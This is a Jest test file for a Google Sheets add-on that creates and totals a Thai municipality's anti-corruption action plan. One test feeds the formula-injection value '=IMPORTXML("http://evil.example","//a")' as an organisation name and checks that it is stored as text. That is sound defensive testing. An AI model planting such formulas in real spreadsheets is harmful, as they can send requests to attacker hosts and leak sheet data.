/**
 * สร้างแผ่นงานแผน through the built Code.js: the standard layout, its rules, and the totals it
 * computes once staff type their projects in.
 */
import { DataValidationCriteria } from '../fakes/spreadsheet';
import { loadAddon, CREATE_REQUEST, userError } from './harness';

describe('createPlanSheet', () => {
  test('writes the standard layout that the core reads back as an empty plan', () => {
    const a = loadAddon();
    const r = a.call('createPlanSheet', CREATE_REQUEST);
    expect(r).toEqual({ sheetName: 'แผนปฏิบัติการ', firstDataRow: 6, lastDataRow: 45, columns: 16 });
    const sheet = a.spreadsheet._sheetByName('แผนปฏิบัติการ')!;
    const values = sheet._dump();
    expect(values[0][0]).toBe('แผนปฏิบัติการป้องกันการทุจริต (พ.ศ. ๒๕๖๖ - ๒๕๗๐)');
    expect(values[1][0]).toBe('เทศบาลตำบลบึงเค็งตา');
    expect(values[3].slice(0, 5)).toEqual(['ลำดับ', 'มิติ', 'ภารกิจตามมิติ', 'โครงการ/กิจกรรม/มาตรการ', 'ปี ๒๕๖๖']);
    expect(values[3][9]).toBe('ดำเนินการไตรมาส ปี ๒๕๖๘');
    expect(values[4].slice(9, 13)).toEqual(['ไตรมาส ๑', 'ไตรมาส ๒', 'ไตรมาส ๓', 'ไตรมาส ๔']);
    const check = a.call('checkPlan');
    expect(check).toEqual(
      expect.objectContaining({
        sheetName: 'แผนปฏิบัติการ',
        layout: 'five-year',
        years: [2566, 2567, 2568, 2569, 2570],
        projects: 0,
        errors: 0,
        warnings: 0,
      }),
    );
  });

  test('validation, checkboxes, formats, frozen and protected header, hidden id column', () => {
    const a = loadAddon();
    a.call('createPlanSheet', CREATE_REQUEST);
    const sheet = a.spreadsheet._sheetByName('แผนปฏิบัติการ')!;
    const cell = (row: number, col: number) => sheet._cell(row, col);
    const dim = cell(6, 2).validation!;
    expect(dim.getCriteriaType()).toBe(DataValidationCriteria.VALUE_IN_LIST);
    expect(dim.getCriteriaValues()[0]).toEqual([
      'มิติที่ ๑ การสร้างวัฒนธรรมสุจริต',
      'มิติที่ ๒ การบริหารราชการด้วยความโปร่งใส',
      'มิติที่ ๓ การส่งเสริมบทบาทและการมีส่วนร่วมของภาคประชาชน',
      'มิติที่ ๔ การยกระดับกลไกการตรวจสอบการดำเนินงานขององค์กรปกครองส่วนท้องถิ่น',
    ]);
    const mission = cell(45, 3).validation!;
    expect(mission.getCriteriaType()).toBe(DataValidationCriteria.VALUE_IN_RANGE);
    const missionRange = mission.getCriteriaValues()[0] as GoogleAppsScript.Spreadsheet.Range;
    expect(missionRange.getSheet().getName()).toBe('รายการภารกิจ');
    expect(missionRange.getA1Notation()).toMatch(/^C2:C\d+$/);
    const budget = cell(20, 7).validation!;
    expect(budget.getCriteriaType()).toBe(DataValidationCriteria.NUMBER_GREATER_THAN_OR_EQUAL_TO);
    expect(budget.getCriteriaValues()).toEqual([0]);
    expect(budget.getAllowInvalid()).toBe(true); // "-" and "ไม่ใช้งบประมาณ" are warned about, not rejected
    expect(cell(20, 7).format.numberFormat).toBe('#,##0.00');
    expect(cell(6, 10).validation!.getCriteriaType()).toBe(DataValidationCriteria.CHECKBOX);
    expect(cell(45, 13).value).toBe(false);
    expect(cell(46, 10).validation).toBeNull(); // not on the blank row or the totals
    expect(cell(4, 1).format.fontFamily).toBe('Sarabun');
    expect(sheet._frozenRows).toBe(5);
    expect(sheet._protections).toHaveLength(1);
    expect(sheet._protections[0].isWarningOnly()).toBe(true);
    expect(sheet._protections[0].getRange().getA1Notation()).toBe('A4:P5');
    expect(sheet._hidden.has(16)).toBe(true);
    expect(
      sheet._rules.map((r) =>
        r
          .getRanges()
          .map((x) => x.getA1Notation())
          .join(','),
      ),
    ).toEqual(['B6:B45', 'E6:I45', 'J6:M45', 'D6:D45', 'N6:O45']);
    const catalogue = a.spreadsheet._sheetByName('รายการภารกิจ')!._dump();
    expect(catalogue[0]).toEqual(['มิติ', 'เลขที่', 'ภารกิจตามมิติ']);
    expect(catalogue).toHaveLength(11); // the header and the 2566–2570 plan's 10 sub-missions
  });

  test('holds the document lock for every write and registers the sheet and settings', () => {
    const a = loadAddon();
    a.call('createPlanSheet', CREATE_REQUEST);
    expect(a.log.unlockedWrites).toEqual([]);
    expect(a.log.counts.get('Lock.tryLock')).toBe(1);
    expect(a.log.counts.get('Lock.releaseLock')).toBe(1);
    const settings = JSON.parse(a.documentProperties.getProperty('saisaat.settings')!);
    expect(settings).toEqual(
      expect.objectContaining({
        organisation: { name: 'เทศบาลตำบลบึงเค็งตา', type: 'เทศบาลตำบล' },
        planKind: 'five-year',
        fiscalYears: { from: 2566, to: 2570 },
      }),
    );
    expect(a.documentProperties.getProperty('saisaat.planSheetId')).toBe(
      String(a.spreadsheet._sheetByName('แผนปฏิบัติการ')!._id),
    );
  });

  test('a plan sheet exists: its name is returned, nothing is made, never a silent (2) copy', () => {
    const a = loadAddon();
    const mine = a.addSheet('แผนปฏิบัติการ', [['ข้อมูลเดิมของผู้ใช้']]);
    const callsBefore = a.log.order.length;
    expect(a.call('createPlanSheet', CREATE_REQUEST)).toEqual({
      existingSheet: 'แผนปฏิบัติการ',
      sheetNames: ['Sheet1', 'แผนปฏิบัติการ'],
    });
    expect(a.spreadsheet._sheets.map((s) => s._name)).toEqual(['Sheet1', 'แผนปฏิบัติการ']);
    expect(mine._dump()).toEqual([['ข้อมูลเดิมของผู้ใช้']]);
    expect(a.log.order.slice(callsBefore).filter((c) => /insertSheet|^Range\.|^Sheet\.set/.test(c))).toEqual([]);
    expect(a.documentProperties.getProperty('saisaat.settings')).toBeNull();
    // Pressing create again after it finished: the plan made the first time is reported.
    const b = loadAddon();
    b.call('createPlanSheet', CREATE_REQUEST);
    expect(b.call('createPlanSheet', CREATE_REQUEST)).toEqual(expect.objectContaining({ existingSheet: 'แผนปฏิบัติการ' }));
    expect(b.spreadsheet._sheets.map((s) => s._name)).toEqual(['Sheet1', 'รายการภารกิจ', 'แผนปฏิบัติการ']);
  });

  test('an adopted plan under another name counts as the existing plan', () => {
    const a = loadAddon();
    const adopted = a.addSheet('แผน ๖๖–๗๐', [['แผนเดิมของหน่วยงาน']]);
    a.documentProperties.setProperty('saisaat.planSheetId', String(adopted._id)); // as adoptSheet registers it
    expect(a.call('createPlanSheet', CREATE_REQUEST)).toEqual({
      existingSheet: 'แผน ๖๖–๗๐',
      sheetNames: ['Sheet1', 'แผน ๖๖–๗๐'],
    });
  });

  test('a new plan under the name the user typed (trimmed), registered as the plan', () => {
    const a = loadAddon();
    a.call('createPlanSheet', CREATE_REQUEST);
    const r = a.call('createPlanSheet', { ...CREATE_REQUEST, sheetName: '  แผน ๒๕๗๑–๒๕๗๕ ' });
    expect(r).toEqual({ sheetName: 'แผน ๒๕๗๑–๒๕๗๕', firstDataRow: 6, lastDataRow: 45, columns: 16 });
    expect(a.documentProperties.getProperty('saisaat.planSheetId')).toBe(
      String(a.spreadsheet._sheetByName('แผน ๒๕๗๑–๒๕๗๕')!._id),
    );
    expect(a.spreadsheet._active._name).toBe('แผน ๒๕๗๑–๒๕๗๕');
  });

  test('a typed name Sheets would refuse: a message in Thai and English, nothing made', () => {
    const a = loadAddon();
    a.call('createPlanSheet', CREATE_REQUEST);
    const sheets = () => a.spreadsheet._sheets.map((s) => s._name);
    const before = sheets();
    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, sheetName: '   ' }))).toEqual({
      th: 'กรุณาพิมพ์ชื่อแผ่นงานใหม่',
      en: 'Please type a name for the new sheet',
    });
    // Sheets compares names without case.
    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, sheetName: 'sheet1' }))).toEqual({
      th: 'มีแผ่นงานชื่อ "Sheet1" อยู่แล้ว กรุณาตั้งชื่ออื่น',
      en: 'There is already a sheet named "Sheet1"; please choose another name',
    });
    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, sheetName: 'ก'.repeat(101) }))).toEqual({
      th: 'ชื่อแผ่นงานยาวได้ไม่เกิน 100 ตัวอักษร',
      en: 'A sheet name may have at most 100 characters',
    });
    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, sheetName: 'แผน\nใหม่' }))).toEqual({
      th: 'ชื่อแผ่นงานต้องอยู่ในบรรทัดเดียว',
      en: 'A sheet name must be on one line',
    });
    expect(sheets()).toEqual(before);
  });

  test('open the existing plan sheet: it becomes the active sheet; a missing one is a clear message', () => {
    const a = loadAddon();
    a.call('createPlanSheet', CREATE_REQUEST);
    a.spreadsheet.setActiveSheet(a.spreadsheet._sheetByName('Sheet1')! as never);
    a.call('openPlanSheet', { sheetName: 'แผนปฏิบัติการ' });
    expect(a.spreadsheet._active._name).toBe('แผนปฏิบัติการ');
    expect(userError(() => a.call('openPlanSheet', { sheetName: 'ไม่มี' }))).toEqual({
      th: 'ไม่พบแผ่นงาน "ไม่มี" (อาจถูกลบหรือเปลี่ยนชื่อ)',
      en: 'No sheet named "ไม่มี" (perhaps deleted or renamed)',
    });
    expect(userError(() => a.call('openPlanSheet', { sheetName: '' }))).toEqual(
      expect.objectContaining({ th: 'ไม่พบแผ่นงาน "" (อาจถูกลบหรือเปลี่ยนชื่อ)' }),
    );
  });

  test('an annual plan: one budget column for its year, quarters for that year', () => {
    const a = loadAddon();
    a.call('createPlanSheet', { ...CREATE_REQUEST, planKind: 'annual', quarterYear: 2567 });
    const values = a.spreadsheet._sheetByName('แผนปฏิบัติการ')!._dump();
    expect(values[0][0]).toBe('แผนปฏิบัติการป้องกันการทุจริต ประจำปีงบประมาณ พ.ศ. ๒๕๖๗');
    expect(values[3].slice(4, 6)).toEqual(['ปี ๒๕๖๗', 'ดำเนินการไตรมาส ปี ๒๕๖๗']);
    const check = a.call('checkPlan');
    expect(check.years).toEqual([2567]);
  });

  test('user text that looks like a formula is written as text', () => {
    const a = loadAddon();
    a.call('createPlanSheet', {
      ...CREATE_REQUEST,
      organisationName: '=IMPORTXML("http://evil.example","//a")',
      organisationType: '',
    });
    const cell = a.spreadsheet._sheetByName('แผนปฏิบัติการ')!._cell(2, 1);
    expect(cell.formula).toBe('');
    expect(cell.value).toBe('=IMPORTXML("http://evil.example","//a")');
  });

  test('bad requests get a message in Thai and English, and nothing is created', () => {
    const a = loadAddon();
    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 'สองพัน' }))).toEqual({
      th: expect.stringMatching(/^ข้อมูลไม่ครบหรือไม่ถูกต้อง: fromYear/),
      en: expect.stringMatching(/^Missing or invalid data: fromYear/),
    });
    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, fromYear: 2570, toYear: 2566 }))).toEqual({
      th: 'ข้อมูลไม่ถูกต้อง: ปีสิ้นสุดต้องไม่น้อยกว่าปีเริ่มต้น',
      en: 'Invalid data: the last year must not be before the first',
    });
    expect(userError(() => a.call('createPlanSheet', { ...CREATE_REQUEST, quarterYear: 2575 }))).toEqual({
      th: 'ปีของไตรมาส (2575) ต้องอยู่ในช่วงปีของแผน 2566–2570',
      en: "The year of the quarter ticks (2575) must be within the plan's years 2566–2570",
    });
    expect(a.spreadsheet._sheets.map((s) => s._name)).toEqual(['Sheet1']);
  });

  test('another editor holding the lock: a clear message, no half-made sheet', () => {
    const a = loadAddon();
    a.lock._busy = true;
    expect(userError(() => a.call('createPlanSheet', CREATE_REQUEST))).toEqual({
      th: 'มีผู้ใช้อื่นกำลังแก้ไขแผ่นงานด้วยใสสะอาดอยู่ กรุณาลองใหม่อีกครั้ง',
      en: 'Someone else is changing the spreadsheet with SaiSaat right now; please try again in a moment',
    });
    expect(a.spreadsheet._sheets).toHaveLength(1);
  });
});

describe('a created plan, filled in by staff', () => {
  function filled() {
    const a = loadAddon();
    a.call('createPlanSheet', CREATE_REQUEST);
    const sheet = a.spreadsheet._sheetByName('แผนปฏิบัติการ')!;
    // Typed rows, dimensions in every way staff write them.
    const rows = [
      [
        1,
        'มิติที่ ๑ การสร้างวัฒนธรรมสุจริต',
        'การเสริมสร้างจิตสำนึกและความตระหนักแก่บุคลากรทั้งข้าราชการการเมืองฝ่ายบริหาร ข้าราชการการเมืองฝ่ายสภาท้องถิ่นและฝ่ายประจำขององค์กรปกครองส่วนท้องถิ่น',
        'กิจกรรมการมอบประกาศเกียรติคุณแก่คณะกรรมการชุมชน',
        10000,
        10000,
        10000,
        10000,
        10000,
        true,
        false,
        false,
        true,
        'สำนักปลัดเทศบาล',
        '',
      ],
      [
        2,
        '1',
        '',
        'โครงการพัฒนาความรู้ด้านกฎหมายและระเบียบที่เกี่ยวข้องกับการปฏิบัติงาน',
        45000,
        45000,
        50000,
        50000,
        50000,
        false,
        true,
        false,
        false,
        'สำนักปลัดเทศบาล',
        '',
      ],
      [
        3,
        'มิติที่ ๓ การส่งเสริมบทบาทและการมีส่วนร่วมของภาคประชาชน',
        '',
        'โครงการจัดเวทีประชาคม',
        8500,
        8500,
        8500,
        8500,
        8500,
        false,
        true,
        true,
        false,
        'สำนักปลัดเทศบาล',
        '',
      ],
      [
        4,
        '*4',
        '',
        'มาตรการจัดให้มีระบบและช่องทางการรับเรื่องร้องเรียนเกี่ยวกับการทุจริต',
        '-',
        '-',
        'ไม่ใช้งบประมาณ',
        5000,
        5000,
        true,
        true,
        true,
        true,
        'สำนักปลัดเทศบาล',
        '',
      ],
    ];
    sheet.getRange(6, 1, rows.length, rows[0].length).setValues(rows);
    return { a, sheet };
  }

  test('the live total rows compute what the core computes', () => {
    const { a, sheet } = filled();
    const values = sheet.getRange(47, 5, 5, 9).getValues();
    expect(values.map((r) => r.slice(0, 5))).toEqual([
      [55000, 55000, 60000, 60000, 60000],
      [0, 0, 0, 0, 0],
      [8500, 8500, 8500, 8500, 8500],
      [0, 0, 0, 5000, 5000],
      [63500, 63500, 68500, 73500, 73500],
    ]);
    expect(values[4].slice(5, 9)).toEqual([2, 3, 2, 2]);
    const check = a.call('checkPlan');
    expect(check.projects).toBe(4);
    expect(check.findings.filter((f) => f.code === 'SUBTOTAL_MISMATCH' || f.code === 'GRAND_TOTAL_MISMATCH')).toEqual(
      [],
    );
  });

  test('สรุปยอด fills the สรุป sheet and its chart; running it again duplicates nothing', () => {
    const { a } = filled();
    const first = a.call('updateTotals');
    expect(first).toEqual(
      expect.objectContaining({ sheetName: 'แผนปฏิบัติการ', summarySheet: 'สรุป', rowsInserted: 0, chart: 'created' }),
    );
    expect(first.byYear).toEqual({ 2566: 63500, 2567: 63500, 2568: 68500, 2569: 73500, 2570: 73500 });
    expect(first.quarters).toEqual([2, 3, 2, 2]);
    const summary = a.spreadsheet._sheetByName('สรุป')!;
    expect(summary.getRange(4, 1, 1, 8).getValues()[0]).toEqual([
      'มิติ',
      'ปี ๒๕๖๖',
      'ปี ๒๕๖๗',
      'ปี ๒๕๖๘',
      'ปี ๒๕๖๙',
      'ปี ๒๕๗๐',
      'รวม (บาท)',
      'จำนวนโครงการ',
    ]);
    const table = summary.getRange(5, 1, 6, 8).getValues();
    expect(table[0]).toEqual(['มิติที่ ๑ การสร้างวัฒนธรรมสุจริต', 55000, 55000, 60000, 60000, 60000, 290000, 2]);
    expect(table[4]).toEqual(['ไม่ระบุมิติ', 0, 0, 0, 0, 0, 0, 0]);
    expect(table[5]).toEqual(['รวมทั้งสิ้น', 63500, 63500, 68500, 73500, 73500, 342500, 4]);
    expect(summary.getRange(13, 1, 1, 5).getValues()).toEqual([['จำนวนโครงการที่ดำเนินการ', 2, 3, 2, 2]]);
    expect(summary._charts).toHaveLength(1);
    const before = { plan: a.spreadsheet._sheetByName('แผนปฏิบัติการ')!._dump(), summary: summary._dump() };
    const again = a.call('updateTotals');
    expect(again.chart).toBe('updated');
    expect(summary._charts).toHaveLength(1);
    expect(a.spreadsheet._sheets.map((s) => s._name)).toEqual(['Sheet1', 'รายการภารกิจ', 'แผนปฏิบัติการ', 'สรุป']);
    expect(a.spreadsheet._sheetByName('แผนปฏิบัติการ')!._dump()).toEqual(before.plan);
    expect(summary._dump()).toEqual(before.summary);
  });

  test('a project without a readable dimension: on the ไม่ระบุมิติ line of สรุป, counted in the grand total, live after edits', () => {
    const { a, sheet } = filled();
    sheet.getRange(8, 2).setValue('มิติที่ ๙');
    const r = a.call('updateTotals');
    expect(r.unassigned).toEqual({
      byYear: { 2566: 8500, 2567: 8500, 2568: 8500, 2569: 8500, 2570: 8500 },
      projects: 1,
    });
    const summary = a.spreadsheet._sheetByName('สรุป')!;
    const table = () => summary.getRange(5, 1, 6, 8).getValues();
    expect(table()[4]).toEqual(['ไม่ระบุมิติ', 8500, 8500, 8500, 8500, 8500, 42500, 1]);
    expect(table()[5]).toEqual(['รวมทั้งสิ้น', 63500, 63500, 68500, 73500, 73500, 342500, 4]);
    // The plan sheet's grand total counts the project too, so checking finds no grand-total mismatch.
    expect(sheet.getRange(51, 5, 1, 5).getValues()[0]).toEqual([63500, 63500, 68500, 73500, 73500]);
    expect(a.call('checkPlan').findings.map((f) => f.code)).not.toContain('GRAND_TOTAL_MISMATCH');
    // Clearing a dimension after สรุปยอด moves the project's budget to ไม่ระบุมิติ without running it again.
    sheet.getRange(6, 2).setValue('');
    expect(table()[0]).toEqual(['มิติที่ ๑ การสร้างวัฒนธรรมสุจริต', 45000, 45000, 50000, 50000, 50000, 240000, 1]);
    expect(table()[4]).toEqual(['ไม่ระบุมิติ', 18500, 18500, 18500, 18500, 18500, 92500, 2]);
    expect(table()[5]).toEqual(['รวมทั้งสิ้น', 63500, 63500, 68500, 73500, 73500, 342500, 4]);
  });
});
